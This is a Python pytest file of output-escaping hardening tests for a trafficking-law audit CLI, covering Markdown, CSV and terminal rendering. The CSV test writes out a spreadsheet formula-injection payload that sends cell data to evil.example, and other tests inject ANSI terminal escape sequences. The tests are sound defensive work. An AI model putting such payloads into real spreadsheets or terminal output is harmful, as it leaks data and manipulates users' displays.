"""Escaping by output format: data never becomes Markdown structure, a spreadsheet formula or a terminal control.

The data is the fixture data with every free-text field holding markup and control characters
(``hostile.py``). Markdown: each document is parsed (CommonMark with GitHub tables) and must have
the block structure of the same document made from the plain data, no HTML, images or unsafe
links, and every hostile text shown whole as text. CSV: no cell begins with a formula character.
Terminal: no control character from data reaches the output, in any terminal renderer.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from tests.hardening.hostile import DATA, DAY, MARKUP, hostile_data, replaced_fields
from trafficking_audit.app.session import Session
from trafficking_audit.render import RENDERERS, render

SHOWN = " ".join(MARKUP.split())  # how the Markdown escaper lays the text out: one line
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
MARKS = {"em_open", "strong_open", "s_open", "image", "html_inline", "html_block", "code_inline"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = hostile_data(tmp_path_factory.mktemp("hostile") / "data")
    assert replaced_fields(folder) >= 50  # names, titles, instrument names, articles, notes, templates...
    return folder


# --- Markdown ------------------------------------------------------------------------------

MARKDOWN_COMMANDS: dict[str, Callable[[Path, Path], tuple[str, ...]]] = {
    "audit": lambda d, o: ("run", "ruritania", "--format", "md", "--as-of", "2025-01-01"),
    "audit-peer": lambda d, o: ("run", "freedonia", "--format", "md", "--as-of", "2025-01-01"),
    "diff": lambda d, o: ("diff", "ruritania", "freedonia", "--format", "md", "--as-of", "2025-01-01"),
    "diff-dates": lambda d, o: ("diff", "ruritania@2019-06-30", "ruritania@2025-01-01", "--format", "md"),
    "trend": lambda d, o: ("trend", "ruritania", "--from", "2019-01-01", "--to", "2025-01-01", "--format", "md"),
    "rules-list": lambda d, o: ("rules", "list", "--format", "md"),
    "rule-page": lambda d, o: ("rules", "show", "means-core-elements", "--format", "md"),
    "rule-page-binding": lambda d, o: ("rules", "show", "reflection-period-30d", "--format", "md"),
}


def _structure(text: str) -> tuple[list[tuple[str, str]], dict[str, int], list[str], list[str]]:
    """Block tokens, counts of inline markup, link targets, and the text of every inline run."""
    tokens = PARSER.parse(text)
    blocks = [(t.type, t.tag) for t in tokens if t.type != "inline"]
    marks: dict[str, int] = {}
    hrefs, texts = [], []
    for token in tokens:
        if token.type == "html_block":
            marks["html_block"] = marks.get("html_block", 0) + 1
        for child in token.children or []:
            if child.type in MARKS:
                marks[child.type] = marks.get(child.type, 0) + 1
            if child.type == "link_open":
                hrefs.append(str(child.attrs["href"]))
        if token.type == "inline":
            texts.append("".join(c.content for c in token.children or [] if c.type == "text"))
    return blocks, marks, hrefs, texts


def _assert_intact(plain: str, hostile: str) -> None:
    blocks, marks, _hrefs, _texts = _structure(plain)
    h_blocks, h_marks, h_hrefs, h_texts = _structure(hostile)
    assert h_blocks == blocks  # no table broken, no list, heading or rule opened by data
    assert h_marks == marks  # no emphasis, image, HTML or code span from data
    assert all(re.match(r"^(https?://|#|[\w.-]+\.(md|html|json|csv)$)", h) for h in h_hrefs), h_hrefs
    fragments = [t for t in h_texts if "onerror" in t]
    assert fragments, "the hostile text is not shown at all"
    for text in fragments:  # shown whole, as text: not cut by a pipe nor split by markup
        assert SHOWN in text, text


@pytest.mark.parametrize("name", sorted(MARKDOWN_COMMANDS))
def test_markdown_keeps_its_structure_whatever_the_data(cli, hostile: Path, tmp_path: Path, name: str) -> None:
    outputs = []
    for folder in (DATA, hostile):
        result = cli(*MARKDOWN_COMMANDS[name](folder, tmp_path), "--data", folder)
        assert result.exit_code == 0, result.output
        outputs.append(result.stdout)
    _assert_intact(*outputs)


@pytest.mark.parametrize("document", ["index.md", "ruritania.md", "freedonia.md"])
def test_markdown_of_run_all_keeps_its_structure(cli, hostile: Path, tmp_path: Path, document: str) -> None:
    outputs = []
    for folder in (DATA, hostile):
        out = tmp_path / folder.name / folder.parent.name
        result = cli("run", "--all", "--data", folder, "--output-dir", out, "--as-of", "2025-01-01")
        assert result.exit_code == 0, result.output
        outputs.append((out / document).read_text(encoding="utf-8"))
    _assert_intact(*outputs)


def test_rulebook_docs_keep_their_structure(cli, hostile: Path, tmp_path: Path) -> None:
    outputs = []
    for index, folder in enumerate((DATA, hostile)):
        target = tmp_path / f"rules-{index}.md"
        result = cli("rules", "docs", "--data", folder, "--output", target)
        assert result.exit_code == 0, result.output
        outputs.append(target.read_text(encoding="utf-8"))
    _assert_intact(*outputs)


# --- CSV -----------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_matrix_csv_cells_are_never_formulas(cli, tmp_path: Path, start: str) -> None:
    data = tmp_path / "data"
    shutil.copytree(DATA, data)
    version = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
    book = data / "rules" / "rulebook.yaml"
    book.write_text(re.sub(r"(?m)^version: .*$", lambda _: "version: " + _yaml_string(version), book.read_text()))
    result = cli("run", "--all", "--data", data, "--output-dir", tmp_path / "out", "--as-of", "2025-01-01")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "matrix.csv").read_text(encoding="utf-8"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert f"'{version}".replace("\r", "\n") in cells
    assert all(len(row) == len(rows[0]) for row in rows)  # no row split by a carriage return
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _yaml_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


# --- Terminal ------------------------------------------------------------------------------

TERMINAL_COMMANDS = {
    "run": ("run", "ruritania", "--as-of", "2025-01-01"),
    "diff": ("diff", "ruritania", "freedonia", "--as-of", "2025-01-01"),
    "diff-dates": ("diff", "ruritania@2019-06-30", "ruritania@2025-01-01"),
    "trend": ("trend", "ruritania", "--from", "2019-01-01", "--to", "2025-01-01"),
    "list": ("list", "--as-of", "2025-01-01"),
    "overview": ("run", "--all", "--as-of", "2025-01-01"),
    "rules-list": ("rules", "list"),
    "rules-show": ("rules", "show", "means-core-elements"),
    "rules-test": ("rules", "test"),
    "check": ("check",),
    "check-github": ("check", "--format", "github"),
}


@pytest.mark.parametrize("name", sorted(TERMINAL_COMMANDS))
def test_terminal_output_shows_control_characters_as_escapes(cli, hostile: Path, name: str) -> None:
    result = cli(*TERMINAL_COMMANDS[name], "--data", hostile)
    assert result.exit_code in ((0, 1, 2) if name == "rules-test" else (0, 1)), result.output  # 2: failed examples
    for stream in (result.stdout, result.stderr):
        assert not RAW_CONTROL.search(stream), repr(RAW_CONTROL.findall(stream))
    if name not in ("check", "check-github"):  # these print data only when something fails
        assert "\\x1b" in result.stdout.replace("\n", "")  # shown, though a table may fold it


def test_every_terminal_renderer_escapes_in_colour_too(hostile: Path) -> None:
    session = Session.open(hostile)
    audit = session.audit(session.profiles.all()[0], session.rulebook.rules, DAY)
    output = render("terminal", audit, color=True)
    assert "\\x1b[2J" in output
    # The only escape sequences left are the renderer's own colours (SGR: ESC [ digits m).
    assert not RAW_CONTROL.search(re.sub(r"\x1b\[[0-9;]*m", "", output))
    assert "terminal" in RENDERERS["audit"]


def test_an_error_line_quoting_data_shows_control_characters(cli, tmp_path: Path) -> None:
    profile = tmp_path / "p.yaml"
    profile.write_text("id: x\nname: X\niso2: XX\niso3: XXX\nlast_reviewed: 2025-01-01\n\x1b[2J: 1\n")
    result = cli("run", profile, "--data", DATA)
    assert result.exit_code == 2
    assert not RAW_CONTROL.search(result.stderr), repr(result.stderr)
